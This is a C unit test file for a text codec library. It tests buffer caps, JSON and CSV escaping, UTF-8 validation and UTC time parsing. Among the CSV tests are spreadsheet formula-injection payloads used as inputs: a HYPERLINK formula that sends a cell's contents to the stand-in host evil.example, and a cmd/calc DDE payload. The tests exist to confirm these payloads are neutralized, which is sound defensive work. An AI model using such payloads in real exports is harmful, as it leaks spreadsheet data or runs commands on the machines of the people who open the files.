/*
 * test_text.c: the shared text codecs (storage/text.c): the bounded builder and its cap,
 * JSON and CSV escaping (spreadsheet formulas neutralized in text cells, numbers kept as
 * numbers; invalid UTF-8 replaced in JSON), strict UTF-8 and free-text rules, identifier rules, and
 * UTC time in both directions, checked on exact strings and exact millisecond values.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "storage/text.h"

/* ---- text_buf -------------------------------------------------------------------------- */

static void test_buf_append_within_cap(void **state)
{
    (void)state;
    text_buf b;
    text_buf_init(&b, 10);
    assert_null(b.ptr);
    assert_int_equal(b.len, 0);
    assert_true(text_puts(&b, "hello"));
    assert_true(text_append(&b, "world", 5));
    assert_string_equal(b.ptr, "helloworld");
    assert_int_equal(b.len, 10);
    assert_false(b.failed);
    /* An empty append at the cap still succeeds. */
    assert_true(text_append(&b, "", 0));
    assert_int_equal(b.len, 10);
    text_buf_free(&b);
    assert_null(b.ptr);
    assert_int_equal(b.len, 0);
}

static void test_buf_append_past_cap_fails_and_sticks(void **state)
{
    (void)state;
    text_buf b;
    text_buf_init(&b, 10);
    assert_true(text_puts(&b, "0123456789"));
    assert_false(text_append(&b, "x", 1));
    assert_true(b.failed);
    /* Nothing of the refused append was written, and the text is still terminated. */
    assert_int_equal(b.len, 10);
    assert_string_equal(b.ptr, "0123456789");
    /* Sticky: later appends are refused even when they would fit. */
    text_buf_reset(&b);
    assert_false(b.failed);
    assert_int_equal(b.len, 0);
    assert_string_equal(b.ptr, "");
    assert_true(text_puts(&b, "abc"));
    assert_false(text_puts(&b, "01234567")); /* 3 + 8 > 10 */
    assert_true(b.failed);
    assert_false(text_puts(&b, "z"));
    assert_false(text_printf(&b, "%d", 1));
    assert_false(text_json_str(&b, "q"));
    assert_false(text_csv_field(&b, "q"));
    assert_string_equal(b.ptr, "abc");
    assert_int_equal(b.len, 3);
    text_buf_free(&b);
}

static void test_buf_huge_append_refused_without_allocating(void **state)
{
    (void)state;
    text_buf b;
    text_buf_init(&b, 1000);
    assert_false(text_append(&b, "x", SIZE_MAX));
    assert_true(b.failed);
    assert_null(b.ptr);
    assert_int_equal(b.size, 0);
    text_buf_free(&b);

    text_buf_init(&b, 1000);
    assert_true(text_puts(&b, "a"));
    assert_false(text_append(&b, "x", SIZE_MAX - 1)); /* would wrap len + n */
    assert_true(b.failed);
    assert_int_equal(b.len, 1);
    text_buf_free(&b);
}

/* Filling a buffer to refusal allocates less than twice its cap. */
static void test_buf_memory_bounded(void **state)
{
    (void)state;
    enum { CAP = 100000 };
    static char chunk[1000];
    memset(chunk, 'a', sizeof(chunk));
    text_buf b;
    text_buf_init(&b, CAP);
    int ok = 0;
    while (text_append(&b, chunk, 333))
        ok++;
    assert_int_equal(ok, CAP / 333);
    assert_int_equal(b.len, (size_t)(CAP / 333) * 333);
    assert_true(b.failed);
    assert_true(b.size >= b.len + 1);
    assert_true(b.size <= 2 * ((size_t)CAP + 1));
    /* The last byte up to the cap still fits after a reset and refill. */
    text_buf_reset(&b);
    for (int i = 0; i < CAP / 1000; i++)
        assert_true(text_append(&b, chunk, 1000));
    assert_int_equal(b.len, CAP);
    assert_false(text_append(&b, "b", 1));
    assert_true(b.size <= 2 * ((size_t)CAP + 1));
    text_buf_free(&b);
}

static void test_buf_printf(void **state)
{
    (void)state;
    text_buf b;
    text_buf_init(&b, 1000);
    assert_true(text_printf(&b, "%s=%d;", "n", 42));
    assert_string_equal(b.ptr, "n=42;");
    /* Longer than the 256-byte stack buffer: the second path. */
    char big[400];
    memset(big, 'x', sizeof(big) - 1);
    big[sizeof(big) - 1] = '\0';
    assert_true(text_printf(&b, "[%s]", big));
    assert_int_equal(b.len, 5 + 2 + 399);
    assert_int_equal(strlen(b.ptr), b.len);
    assert_int_equal(b.ptr[5], '[');
    assert_int_equal(b.ptr[b.len - 1], ']');
    /* A long printf past the cap is refused whole. */
    assert_true(text_printf(&b, "%s", big)); /* 805 */
    assert_false(text_printf(&b, "%s", big));
    assert_true(b.failed);
    assert_int_equal(b.len, 805);
    assert_int_equal(strlen(b.ptr), 805);
    text_buf_free(&b);

    /* A short printf past the cap too. */
    text_buf_init(&b, 4);
    assert_true(text_printf(&b, "%d", 1234));
    assert_false(text_printf(&b, "%d", 5));
    assert_string_equal(b.ptr, "1234");
    text_buf_free(&b);
}

/* ---- JSON ------------------------------------------------------------------------------ */

static void json_is(const char *in, const char *want)
{
    text_buf b;
    text_buf_init(&b, 4096);
    assert_true(text_json_str(&b, in));
    assert_string_equal(b.ptr, want);
    assert_int_equal(b.len, strlen(want));
    text_buf_free(&b);
}

static void test_json_escaping(void **state)
{
    (void)state;
    json_is("", "\"\"");
    json_is("plain text", "\"plain text\"");
    json_is("say \"hi\"", "\"say \\\"hi\\\"\"");
    json_is("a\\b", "\"a\\\\b\"");
    json_is("line1\nline2", "\"line1\\nline2\"");
    json_is("\x01", "\"\\u0001\"");
    json_is("\x1f", "\"\\u001f\"");
    json_is("tab\there", "\"tab\\u0009here\"");
    json_is("cr\r", "\"cr\\u000d\"");
    json_is("\x7f", "\"\\u007f\"");
    json_is("\x1b[31m", "\"\\u001b[31m\"");
    json_is(" ~", "\" ~\""); /* 0x20 and 0x7e are not escaped */
    /* UTF-8 passes through byte for byte. */
    json_is("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80",
            "\"caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80\"");
    json_is("\"\\\n\x01\x7f", "\"\\\"\\\\\\n\\u0001\\u007f\"");
    json_is("</script>", "\"</script>\"");
}

static void test_json_appends(void **state)
{
    (void)state;
    text_buf b;
    text_buf_init(&b, 100);
    text_puts(&b, "{\"k\":");
    assert_true(text_json_str(&b, "v\""));
    text_puts(&b, "}");
    assert_string_equal(b.ptr, "{\"k\":\"v\\\"\"}");
    text_buf_free(&b);

    /* An escaped string past the cap fails and sets failed. */
    text_buf_init(&b, 8);
    assert_false(text_json_str(&b, "\x01\x02"));
    assert_true(b.failed);
    assert_true(b.len <= 8);
    text_buf_free(&b);
}

/* ---- CSV ------------------------------------------------------------------------------- */

static void csv_is(const char *in, const char *want)
{
    text_buf b;
    text_buf_init(&b, 4096);
    assert_true(text_csv_field(&b, in));
    assert_string_equal(b.ptr, want);
    text_buf_free(&b);
}

static void test_csv_field(void **state)
{
    (void)state;
    text_buf b;
    text_buf_init(&b, 100);
    assert_true(text_csv_field(&b, ""));
    assert_int_equal(b.len, 0);
    text_buf_free(&b);
    csv_is("plain", "plain");
    csv_is("with space", "with space");
    csv_is("a,b", "\"a,b\"");
    csv_is("say \"hi\"", "\"say \"\"hi\"\"\"");
    csv_is("\"", "\"\"\"\"");
    csv_is("a\nb", "\"a\nb\"");
    csv_is("a\r\nb", "\"a\r\nb\"");
    csv_is("caf\xc3\xa9", "caf\xc3\xa9");
    csv_is("x,\"y\"\n", "\"x,\"\"y\"\"\n\"");
    /* A ';' is quoted too: a spreadsheet in a decimal-comma locale splits cells there. */
    csv_is("a;=1+1", "\"a;=1+1\"");
}

/* A text cell a spreadsheet would run as a formula gets a leading quote (OWASP), whatever
 * it holds: an order id, a referrer, a UTM value. */
static void test_csv_formula_neutralized(void **state)
{
    (void)state;
    csv_is("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
           "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    csv_is("=1+1", "'=1+1");
    csv_is("=", "'=");
    csv_is("+62812345", "'+62812345");
    csv_is("-1500", "'-1500"); /* in a text column, even a number-looking value */
    csv_is("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
    csv_is("@SUM(A1:A9)", "'@SUM(A1:A9)");
    csv_is("\t=1+1", "'\t=1+1");
    csv_is("\r=1+1", "\"'\r=1+1\"");
    /* Not at the start, or already quoted: left alone. */
    csv_is("a=1+1", "a=1+1");
    csv_is(" =1", " =1");
    csv_is("'=1", "'=1");
    csv_is("INV-1001", "INV-1001");
}

static void csv_number_is(const char *in, const char *want)
{
    text_buf b;
    text_buf_init(&b, 4096);
    assert_true(text_csv_number(&b, in));
    assert_string_equal(b.ptr ? b.ptr : "", want);
    text_buf_free(&b);
}

/* A number column jejak computed stays a number, a negative one too; anything in it that
 * is not a plain number is written as text, neutralized. */
static void test_csv_number(void **state)
{
    (void)state;
    csv_number_is("-1500", "-1500");
    csv_number_is("-1500.00", "-1500.00");
    csv_number_is("0", "0");
    csv_number_is("199000.00", "199000.00");
    csv_number_is("-64.0741448499904", "-64.0741448499904");
    csv_number_is("1e-05", "1e-05");
    csv_number_is("-1.5E+20", "-1.5E+20");
    csv_number_is("n/a", "n/a");
    csv_number_is("", "");
    csv_number_is("-", "'-");
    csv_number_is("-1+2", "'-1+2");
    csv_number_is("=1", "'=1");
    csv_number_is("+1", "'+1");
    csv_number_is("1,5", "\"1,5\"");
    csv_number_is("-1.", "'-1.");
    csv_number_is("-1e", "'-1e");
}

/* text_row decides per column: text cells are neutralized, number cells are not. */
static void test_row_kinds(void **state)
{
    (void)state;
    const char *const names[] = {"order_id", "ts", "amount", "coupon", "bot"};
    const char *const vals[] = {"=HYPERLINK(1)", "-5", "-1500.00", "@x", "true"};
    const text_kind kinds[] = {TEXT_STR, TEXT_RAW, TEXT_NUM_STR, TEXT_STR_OR_NULL, TEXT_RAW};
    text_buf b;
    text_buf_init(&b, 4096);
    assert_true(text_row(&b, true, names, vals, kinds, 5));
    assert_string_equal(b.ptr, "'=HYPERLINK(1),-5,-1500.00,'@x,true");
    text_buf_reset(&b);
    assert_true(text_row(&b, false, names, vals, kinds, 5));
    assert_string_equal(b.ptr, "\"order_id\":\"=HYPERLINK(1)\",\"ts\":-5,\"amount\":\"-1500.00\","
                               "\"coupon\":\"@x\",\"bot\":true");
    /* Without kinds every cell is text. */
    text_buf_reset(&b);
    assert_true(text_row(&b, true, names, vals, NULL, 3));
    assert_string_equal(b.ptr, "'=HYPERLINK(1),'-5,'-1500.00");
    text_buf_free(&b);
}

/* ---- UTF-8 and free text ---------------------------------------------------------------- */

static void test_valid_utf8(void **state)
{
    (void)state;
    assert_true(text_valid_utf8(""));
    assert_true(text_valid_utf8("plain ASCII ~"));
    assert_true(text_valid_utf8("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80"));
    assert_true(text_valid_utf8("\xc2\x80\xdf\xbf"));                 /* U+0080, U+07FF */
    assert_true(text_valid_utf8("\xe0\xa0\x80\xef\xbf\xbf"));         /* U+0800, U+FFFF */
    assert_true(text_valid_utf8("\xed\x9f\xbf\xee\x80\x80"));         /* around the surrogates */
    assert_true(text_valid_utf8("\xf0\x90\x80\x80\xf4\x8f\xbf\xbf")); /* U+10000, U+10FFFF */
    assert_false(text_valid_utf8("\xff"));
    assert_false(text_valid_utf8("\xfe"));
    assert_false(text_valid_utf8("\x80"));             /* lone continuation */
    assert_false(text_valid_utf8("a\277b"));           /* octal: a hex escape would take the b */
    assert_false(text_valid_utf8("\xc3"));             /* truncated at the end */
    assert_false(text_valid_utf8("\xc3("));            /* not a continuation */
    assert_false(text_valid_utf8("\xe2\x82"));         /* truncated 3-byte */
    assert_false(text_valid_utf8("\xf0\x9f\x98"));     /* truncated 4-byte */
    assert_false(text_valid_utf8("\xc0\x80"));         /* overlong NUL */
    assert_false(text_valid_utf8("\xc1\xbf"));         /* overlong 0x7f */
    assert_false(text_valid_utf8("\xe0\x80\x80"));     /* overlong 3-byte */
    assert_false(text_valid_utf8("\xe0\x9f\xbf"));     /* overlong U+07FF */
    assert_false(text_valid_utf8("\xf0\x80\x80\x80")); /* overlong 4-byte */
    assert_false(text_valid_utf8("\xf0\x8f\xbf\xbf")); /* overlong U+FFFF */
    assert_false(text_valid_utf8("\xed\xa0\x80"));     /* U+D800 */
    assert_false(text_valid_utf8("\xed\xbf\xbf"));     /* U+DFFF */
    assert_false(text_valid_utf8("\xf4\x90\x80\x80")); /* past U+10FFFF */
    assert_false(text_valid_utf8("\xf5\x80\x80\x80"));
    assert_false(text_valid_utf8("\xf8\x88\x80\x80\x80")); /* 5-byte form */
    assert_false(text_valid_utf8("Budi \xe9"));            /* Latin-1, the usual mistake */
}

/* What a person types for a name, a handle, a UTM value: 1 to max bytes of UTF-8, no
 * control characters. */
static void test_valid_text(void **state)
{
    (void)state;
    assert_true(text_valid_text("Budi Santoso", 128));
    assert_true(text_valid_text("Ayu \xf0\x9f\x8c\xb8 caf\xc3\xa9", 128));
    assert_true(text_valid_text("=HYPERLINK(1)", 128)); /* CSV writers neutralize it */
    assert_true(text_valid_text("abc", 3));
    assert_false(text_valid_text("abcd", 3));
    assert_false(text_valid_text("", 128));
    assert_false(text_valid_text("\xff", 128));
    assert_false(text_valid_text("Budi \xe9", 128));
    assert_false(text_valid_text("\xed\xa0\x80", 128));
    assert_false(text_valid_text("a\tb", 128));
    assert_false(text_valid_text("a\nb", 128));
    assert_false(text_valid_text("\x1b[31m", 128));
    assert_false(text_valid_text("\x7f", 128));
}

/* JSON output is valid UTF-8 whatever a store holds: a byte that is not part of a valid
 * sequence (written by an older jejak) becomes U+FFFD, and parsers keep the report. */
static void test_json_invalid_utf8_replaced(void **state)
{
    (void)state;
    json_is("\xff", "\"\\ufffd\"");
    json_is("a\377b", "\"a\\ufffdb\""); /* octal: a hex escape would take the b */
    json_is("Budi \xe9", "\"Budi \\ufffd\"");
    json_is("\xc3", "\"\\ufffd\"");
    json_is("\xc3(", "\"\\ufffd(\"");
    json_is("\xed\xa0\x80", "\"\\ufffd\\ufffd\\ufffd\"");
    json_is("\xc0\x80", "\"\\ufffd\\ufffd\"");
    json_is("ok \xc3\xa9 \xf0\x9f\x98\x80 \xff", "\"ok \xc3\xa9 \xf0\x9f\x98\x80 \\ufffd\"");
}

/* ---- identifiers ----------------------------------------------------------------------- */

static void test_valid_id(void **state)
{
    (void)state;
    char s[TEXT_ID_MAX + 2];
    memset(s, 'a', TEXT_ID_MAX);
    s[TEXT_ID_MAX] = '\0';
    assert_true(text_valid_id(s)); /* 64 */
    s[TEXT_ID_MAX] = 'a';
    s[TEXT_ID_MAX + 1] = '\0';
    assert_false(text_valid_id(s)); /* 65 */

    assert_true(text_valid_id("a"));
    assert_true(text_valid_id("0"));
    assert_true(text_valid_id("Z9"));
    assert_true(text_valid_id("summer-sale_2026"));
    assert_true(text_valid_id("a-"));
    assert_true(text_valid_id("a_"));
    assert_true(text_valid_id("9-_-_"));

    assert_false(text_valid_id(""));
    assert_false(text_valid_id("-a"));
    assert_false(text_valid_id("_a"));
    assert_false(text_valid_id("-"));
    assert_false(text_valid_id("_"));
    assert_false(text_valid_id("a b"));
    assert_false(text_valid_id("a.b"));
    assert_false(text_valid_id("a/b"));
    assert_false(text_valid_id("a%20"));
    assert_false(text_valid_id("a+b"));
    assert_false(text_valid_id("caf\xc3\xa9"));
    assert_false(text_valid_id("a\x7f"));
    assert_false(text_valid_id("a\n"));
    assert_false(text_valid_id("a:b"));
    assert_false(text_valid_id("a@b"));
    assert_false(text_valid_id("`"));
    assert_false(text_valid_id("["));
    assert_false(text_valid_id("{"));

    /* Every single byte: exactly the 62 alphanumerics are valid ids of length 1. */
    int valid = 0;
    for (int c = 1; c < 256; c++) {
        char one[2] = {(char)c, '\0'};
        if (text_valid_id(one))
            valid++;
    }
    assert_int_equal(valid, 62);
}

/* ---- time ------------------------------------------------------------------------------ */

static int64_t parse_ok(const char *s)
{
    int64_t ms = -12345;
    if (text_parse_time(s, &ms) != 0)
        fail_msg("text_parse_time(\"%s\") refused", s);
    return ms;
}

static void parse_bad(const char *s)
{
    int64_t ms = -12345;
    if (text_parse_time(s, &ms) != -1)
        fail_msg("text_parse_time(\"%s\") accepted as %lld", s, (long long)ms);
}

static void test_parse_time_forms(void **state)
{
    (void)state;
    assert_int_equal(parse_ok("1970-01-01"), 0);
    assert_int_equal(parse_ok("2026-11-20"), 1795132800000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00Z"), 1795168800000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00z"), 1795168800000LL);
    assert_int_equal(parse_ok("2026-11-20 10:00:00Z"), 1795168800000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00"), 1795168800000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00Z"), 1795168800000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00.123Z"), 1795168800123LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00.1Z"), 1795168800100LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00.12Z"), 1795168800120LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00.123999Z"), 1795168800123LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00.5"), 1795168800500LL);
    /* Offsets: local time minus the offset is UTC. */
    assert_int_equal(parse_ok("2026-11-20T10:00:00+07:00"), 1795143600000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00+0700"), 1795143600000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00-05:30"), 1795188600000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00+00:00"), 1795168800000LL);
    assert_int_equal(parse_ok("2026-11-20T10:00:00.250+07:00"), 1795143600250LL);
    /* An offset crossing midnight backwards. */
    assert_int_equal(parse_ok("2026-11-20T01:00:00+07:00"), 1795132800000LL - 6 * 3600000LL);
    assert_int_equal(parse_ok("2026-11-20T23:59:59.999Z"), 1795132800000LL + 86399999LL);
    /* Bare milliseconds. */
    assert_int_equal(parse_ok("0"), 0);
    assert_int_equal(parse_ok("1795168800123"), 1795168800123LL);
    assert_int_equal(parse_ok("999999999999999"), 999999999999999LL); /* 15 digits */
    /* A compact date is all digits, so it is read as milliseconds, not as a day. */
    assert_int_equal(parse_ok("20261120"), 20261120);
    /* Calendar edges. */
    assert_int_equal(parse_ok("2024-02-29"), 1709164800000LL);
    assert_int_equal(parse_ok("2000-02-29"), 951868800000LL - 86400000LL);
    assert_int_equal(parse_ok("2000-03-01"), 951868800000LL);
    assert_int_equal(parse_ok("1900-01-01"), -2208988800000LL);
    assert_int_equal(parse_ok("1969-12-31T23:59:59.999Z"), -1);
    assert_int_equal(parse_ok("2100-03-01T12:34:56Z"), 4107587696000LL);
    assert_int_equal(parse_ok("9999-12-31"), 253402214400000LL);
    assert_int_equal(parse_ok("2026-12-31"), 1795132800000LL + 41 * 86400000LL);
}

static void test_parse_time_refusals(void **state)
{
    (void)state;
    parse_bad("");
    parse_bad("2026-02-29");
    parse_bad("1900-02-29");
    parse_bad("2100-02-29");
    parse_bad("2026-13-01");
    parse_bad("2026-00-10");
    parse_bad("2026-11-00");
    parse_bad("2026-11-31");
    parse_bad("2026-04-31");
    parse_bad("2026-01-32");
    parse_bad("2026-11-20x");
    parse_bad("2026-11-20 ");
    parse_bad("2026-11-20T");
    parse_bad("2026-11-20T10");
    parse_bad("2026-11-20T10:0");
    parse_bad("2026-11-20T10:00:0");
    parse_bad("2026-11-20T10:00:00.");
    parse_bad("2026-11-20T10:00:00.Z");
    parse_bad("2026-11-20T10:00:00Zjunk");
    parse_bad("2026-11-20T10:00:00Z ");
    parse_bad("2026-11-20T10:00:00+07");
    parse_bad("2026-11-20T10:00:00+7:00");
    parse_bad("2026-11-20T10:00:00+24:00");
    parse_bad("2026-11-20T10:00:00+07:60");
    parse_bad("2026-11-20T10:00:00+");
    parse_bad("2026-11-20T24:00:00Z");
    parse_bad("2026-11-20T10:60:00Z");
    parse_bad("2026-11-20T10:00:61Z");
    parse_bad("2026-1-20");
    parse_bad("26-11-20");
    parse_bad("2026/11/20");
    parse_bad("1234567890123456"); /* 16 digits: not bare ms */
    parse_bad("-1");
    parse_bad("+1");
    parse_bad("12a");
    parse_bad(" 2026-11-20");
    parse_bad("2026-11-20T10:00:00.123Z2026-11-20T10:00:00.123Z"); /* > 40 bytes */
}

static void test_valid_date(void **state)
{
    (void)state;
    assert_true(text_valid_date("2026-11-20"));
    assert_true(text_valid_date("2024-02-29"));
    assert_true(text_valid_date("2000-02-29"));
    assert_false(text_valid_date("2026-02-29"));
    assert_false(text_valid_date("2026-13-01"));
    assert_false(text_valid_date("2026-11-20T00:00:00Z"));
    assert_false(text_valid_date("2026-11-2"));
    assert_false(text_valid_date(""));
    assert_false(text_valid_date("2026-11-20x"));
}

static void format_is(int64_t ms, const char *want)
{
    char out[32];
    memset(out, 'Z', sizeof(out));
    text_format_time(ms, out, 25);
    assert_string_equal(out, want);
}

static void test_format_time(void **state)
{
    (void)state;
    format_is(0, "1970-01-01T00:00:00.000Z");
    format_is(1795168800123LL, "2026-11-20T10:00:00.123Z");
    format_is(-1, "1969-12-31T23:59:59.999Z");
    format_is(-86400000LL, "1969-12-31T00:00:00.000Z");
    format_is(-86400001LL, "1969-12-30T23:59:59.999Z");
    format_is(-2208988800000LL, "1900-01-01T00:00:00.000Z");
    format_is(4107587696000LL, "2100-03-01T12:34:56.000Z");
    format_is(4107587696000LL - 86400000LL, "2100-02-28T12:34:56.000Z"); /* 2100: no leap */
    format_is(951868800000LL - 1, "2000-02-29T23:59:59.999Z");
    format_is(253402300799999LL, "9999-12-31T23:59:59.999Z");
    format_is(-62135596800000LL, "0001-01-01T00:00:00.000Z");
}

/* parse(format(ms)) == ms over years 0001..9999, both signs, every millisecond digit. */
static void test_format_parse_round_trip(void **state)
{
    (void)state;
    const int64_t lo = -62135596800000LL, hi = 253402300799999LL;
    uint64_t x = 0x9e3779b97f4a7c15ULL;
    char out[32];
    for (int i = 0; i < 200000; i++) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        int64_t ms = lo + (int64_t)(x % (uint64_t)(hi - lo + 1));
        if (i < 2000)
            ms = (int64_t)(i - 1000) * 86399999LL / 7; /* near the epoch */
        text_format_time(ms, out, sizeof(out));
        assert_int_equal(strlen(out), 24);
        int64_t back = 0;
        if (text_parse_time(out, &back) != 0 || back != ms)
            fail_msg("%lld -> %s -> %lld", (long long)ms, out, (long long)back);
    }
    const int64_t edges[] = {0,         -1, 1,  86399999,        86400000,        -86400000,
                             -86399999, lo, hi, 4107542400000LL, 4107628799999LL, 4102444800000LL};
    for (size_t i = 0; i < sizeof(edges) / sizeof(edges[0]); i++) {
        text_format_time(edges[i], out, sizeof(out));
        int64_t back = 0;
        assert_int_equal(text_parse_time(out, &back), 0);
        assert_int_equal(back, edges[i]);
    }
}

static void test_civil_known(void **state)
{
    (void)state;
    assert_int_equal(text_days_from_civil(1970, 1, 1), 0);
    assert_int_equal(text_days_from_civil(1969, 12, 31), -1);
    assert_int_equal(text_days_from_civil(2000, 3, 1), 11017);
    assert_int_equal(text_days_from_civil(2026, 11, 20), 20777);
    assert_int_equal(text_days_from_civil(2100, 3, 1), 47541);
    assert_int_equal(text_days_from_civil(1, 1, 1), -719162);
    assert_int_equal(text_days_from_civil(0, 3, 1), -719468);
    assert_int_equal(text_days_from_civil(9999, 12, 31), 2932896);
    int64_t y;
    unsigned m, d;
    text_civil_from_days(-719468, &y, &m, &d);
    assert_int_equal(y, 0);
    assert_int_equal(m, 3);
    assert_int_equal(d, 1);
    text_civil_from_days(-719469, &y, &m, &d); /* year 0 is a leap year */
    assert_int_equal(y, 0);
    assert_int_equal(m, 2);
    assert_int_equal(d, 29);
    text_civil_from_days(47540, &y, &m, &d);
    assert_int_equal(y, 2100);
    assert_int_equal(m, 2);
    assert_int_equal(d, 28);
}

/* Every day from 2,000,000 days before the epoch to 3,000,000 after: the two functions are
 * inverses, and consecutive days are consecutive dates. */
static void test_civil_round_trip_wide(void **state)
{
    (void)state;
    int64_t py = 0;
    unsigned pm = 0, pd = 0;
    text_civil_from_days(-2000001, &py, &pm, &pd);
    for (int64_t z = -2000000; z <= 3000000; z++) {
        int64_t y;
        unsigned m, d;
        text_civil_from_days(z, &y, &m, &d);
        if (m < 1 || m > 12 || d < 1 || d > 31 || text_days_from_civil(y, m, d) != z)
            fail_msg("day %lld -> %lld-%u-%u", (long long)z, (long long)y, m, d);
        bool next = (y == py && m == pm && d == pd + 1) || (y == py && m == pm + 1 && d == 1) ||
                    (y == py + 1 && m == 1 && d == 1 && pm == 12 && pd == 31);
        if (!next)
            fail_msg("day %lld: %lld-%u-%u does not follow %lld-%u-%u", (long long)z, (long long)y,
                     m, d, (long long)py, pm, pd);
        py = y;
        pm = m;
        pd = d;
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_buf_append_within_cap),
        cmocka_unit_test(test_buf_append_past_cap_fails_and_sticks),
        cmocka_unit_test(test_buf_huge_append_refused_without_allocating),
        cmocka_unit_test(test_buf_memory_bounded),
        cmocka_unit_test(test_buf_printf),
        cmocka_unit_test(test_json_escaping),
        cmocka_unit_test(test_json_appends),
        cmocka_unit_test(test_csv_field),
        cmocka_unit_test(test_csv_formula_neutralized),
        cmocka_unit_test(test_csv_number),
        cmocka_unit_test(test_row_kinds),
        cmocka_unit_test(test_valid_utf8),
        cmocka_unit_test(test_valid_text),
        cmocka_unit_test(test_json_invalid_utf8_replaced),
        cmocka_unit_test(test_valid_id),
        cmocka_unit_test(test_parse_time_forms),
        cmocka_unit_test(test_parse_time_refusals),
        cmocka_unit_test(test_valid_date),
        cmocka_unit_test(test_format_time),
        cmocka_unit_test(test_format_parse_round_trip),
        cmocka_unit_test(test_civil_known),
        cmocka_unit_test(test_civil_round_trip_wide),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
